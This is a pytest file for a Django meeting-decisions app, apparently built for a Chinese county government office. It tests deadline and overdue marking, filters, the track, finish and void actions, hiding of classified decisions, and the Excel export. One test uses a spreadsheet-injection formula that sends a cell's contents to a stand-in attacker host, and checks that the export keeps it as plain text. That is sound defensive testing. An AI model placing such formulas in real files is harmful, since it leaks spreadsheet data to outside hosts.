"""议定事项 pages and export: deadlines with the overdue marked, filters, 立项督办 / 办结 / 撤销, the Excel list
with typed formulas kept as text, and who sees what — [37], [15], [39], [40], [31], [32]."""

from __future__ import annotations

from datetime import date
from io import BytesIO

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from meetings import services
from meetings.kinds import Kind
from meetings.models import DecisionState
from org.models import SecretLevel

from .factories import at, held

pytestmark = pytest.mark.django_db


def _decision(office, m, **overrides):
    values = {
        "text": "综合科牵头制定春节值班表",
        "leader": office["fuzhuren_wenmi"],
        "due_date": date(2026, 9, 30),
        "sections": (office.sections["general"],),
        "units": (office.units["department"],),
    }
    values.update(overrides)
    return services.decision_add(actor=office["shoufa"], pk=m.pk, data=services.DecisionData(**values))


def test_the_list_shows_deadlines_and_marks_the_overdue_39_40(client_as, office, clock):
    """[39], [40]: an open decision past its 办结时限 is marked 已逾期; the filter shows only those."""
    m = held(office)
    late = _decision(office, m, text="逾期事项甲", due_date=date(2026, 9, 15))
    _decision(office, m, text="未到期事项乙", due_date=date(2026, 10, 30))
    clock.move_to("2026-09-20 09:00+08:00")
    client = client_as("shoufa")
    page = client.get(reverse("meetings:decisions")).content.decode()
    assert "逾期事项甲" in page and "未到期事项乙" in page and "已逾期" in page
    only = client.get(reverse("meetings:decisions") + "?overdue=on").content.decode()
    assert "逾期事项甲" in only and "未到期事项乙" not in only
    assert f'data-decision="{late.pk}" class="overdue"' in only


def test_filters_by_state_leader_and_kind(client_as, office):
    m = held(office)
    county = held(office, Kind.COUNTY_EXECUTIVE, chair=office["xianzhang"], starts=at(2))
    _decision(office, m, text="办公室事项")
    _decision(office, county, text="县政府事项", leader=office["changwu"])
    client = client_as("shoufa")
    by_kind = client.get(reverse("meetings:decisions") + f"?kind={Kind.COUNTY_EXECUTIVE}").content.decode()
    assert "县政府事项" in by_kind and "办公室事项" not in by_kind
    by_leader = client.get(reverse("meetings:decisions") + f"?leader={office['fuzhuren_wenmi'].pk}").content.decode()
    assert "办公室事项" in by_leader and "县政府事项" not in by_leader
    assert client.get(reverse("meetings:decisions") + "?state=nonsense").status_code == 400


def _finish_item(office, d, *, result: str) -> None:
    """The supervision item of a tracked decision, closed late: reason and progress first [40]."""
    from supervision import services as supervision
    from supervision.models import Item, ReceivedVia

    item = Item.objects.get(decision=d)
    supervision.feedback_record(
        actor=office["shoufa"],
        pk=item.pk,
        data=supervision.FeedbackData(
            text="值班表已定稿",
            received_via=ReceivedVia.PHONE,
            received_on=date(2026, 9, 18),
            late_reason="等待各科报名",
        ),
    )
    supervision.item_submit_close(actor=office["shoufa"], pk=item.pk, result=result)
    supervision.item_close(actor=item.first_responsible, pk=item.pk)


def test_track_finish_and_void_from_the_detail_page_37_40(client_as, office, clock):
    """[37]: 立项督办 by the office; [40]: 办结 with 落实情况 (late marked); 撤销 with a reason."""
    m = held(office)
    d = _decision(office, m, due_date=date(2026, 9, 16))
    other = _decision(office, m, text="另一事项", leader=office["changwu"])
    # (client_as signs the one test client in as that person: call it again before each person acts.)
    page = client_as("shoufa").get(reverse("meetings:decision", args=[d.pk])).content.decode()
    assert "立项督办" in page and "综合科牵头制定春节值班表" in page
    client_as("shoufa").post(reverse("meetings:decision_act", args=[d.pk, "track"]))
    d.refresh_from_db()
    assert d.state == DecisionState.TRACKED
    clock.move_to("2026-09-18 09:00+08:00")
    # Moved on purpose (issue 17): a tracked decision is the supervision item's to finish; the page links it.
    leader = client_as("fuzhuren_wenmi")
    assert leader.post(reverse("meetings:decision_act", args=[d.pk, "finish"]), {"result": "x"}).status_code == 403
    assert "data-supervision-item" in leader.get(reverse("meetings:decision", args=[d.pk])).content.decode()
    _finish_item(office, d, result="值班表已印发")
    d.refresh_from_db()
    assert d.state == DecisionState.DONE and d.on_time is False
    assert "逾期办结" in leader.get(reverse("meetings:decision", args=[d.pk])).content.decode()
    # An open (untracked) decision is still finished here, with 落实情况.
    third = _decision(office, m, text="第三事项", due_date=date(2026, 9, 30))
    leader = client_as("fuzhuren_wenmi")
    assert leader.post(reverse("meetings:decision_act", args=[third.pk, "finish"]), {"result": ""}).status_code == 400
    leader.post(reverse("meetings:decision_act", args=[third.pk, "finish"]), {"result": "已完成"})
    third.refresh_from_db()
    assert third.state == DecisionState.DONE
    # The responsible county leader may finish but not void; the office voids, with a reason.
    county = client_as("changwu")
    assert "撤销" not in county.get(reverse("meetings:decision", args=[other.pk])).content.decode().split("办理记录")[0]
    assert county.post(reverse("meetings:decision_act", args=[other.pk, "void"]), {"reason": "x"}).status_code == 403
    clerk = client_as("shoufa")
    assert clerk.post(reverse("meetings:decision_act", args=[other.pk, "void"]), {"reason": ""}).status_code == 400
    clerk.post(reverse("meetings:decision_act", args=[other.pk, "void"]), {"reason": "已并入第1项"})
    other.refresh_from_db()
    assert other.state == DecisionState.VOIDED and other.void_reason == "已并入第1项"


def test_an_outsider_never_sees_a_classified_meetings_decisions_31_32(client_as, office):
    """[31], [32]: not on the list, not in the export, 404 on the page — even for the office's organisers."""
    m = held(office, secret_level=SecretLevel.SECRET, attendees=[office["zhuren"]])
    d = _decision(office, m, text="涉密议定事项", leader=office["zhuren"])
    for key in ("guikou1", "fuzhuren", "fuzhuren_wenmi"):
        client = client_as(key)
        assert "涉密议定事项" not in client.get(reverse("meetings:decisions")).content.decode(), key
        assert client.get(reverse("meetings:decision", args=[d.pk])).status_code == 404, key
        assert client.post(reverse("meetings:decision_act", args=[d.pk, "track"])).status_code == 404, key
    export = client_as("fuzhuren").get(reverse("meetings:decisions_xlsx"))
    assert export.status_code == 200
    values = [c.value for row in load_workbook(BytesIO(export.content)).active.iter_rows() for c in row]
    assert "涉密议定事项" not in values
    assert "涉密议定事项" in client_as("zhuren").get(reverse("meetings:decisions")).content.decode()


def test_the_export_keeps_typed_formulas_as_text(client_as, office):
    """Issue 12: a decision typed as a formula stays text in the workbook (ops.xlsx)."""
    m = held(office)
    _decision(office, m, text='=HYPERLINK("http://evil.example/"&A1,"点此")')
    _decision(office, m, text="@SUM(A1:A9)")
    response = client_as("shoufa").get(reverse("meetings:decisions_xlsx"))
    assert response.status_code == 200 and response["Content-Type"].startswith("application/vnd.openxmlformats")
    sheet = load_workbook(BytesIO(response.content)).active
    cells = [c for row in sheet.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=@"]
    assert {c.value for c in cells} == {'=HYPERLINK("http://evil.example/"&A1,"点此")', "@SUM(A1:A9)"}
    assert all(c.data_type == "s" and c.quotePrefix for c in cells)
    assert client_as("guikou1").get(reverse("meetings:decisions_xlsx")).status_code == 403


def test_the_decision_list_costs_the_same_queries_for_3_and_30(client_as, office, count_queries):
    """No per-row query (PERFORMANCE.md): units, sections, leader and meeting come in a fixed number."""
    m = held(office)
    client = client_as("shoufa")
    counts = []
    for start, end in ((0, 3), (3, 30)):
        for i in range(start, end):
            _decision(office, m, text=f"事项{i}")
        client.get(reverse("meetings:decisions"))
        with count_queries() as ctx:
            page = client.get(reverse("meetings:decisions"))
        assert page.content.decode().count("data-decision=") == end
        counts.append(len(ctx))
    assert counts[0] == counts[1], counts
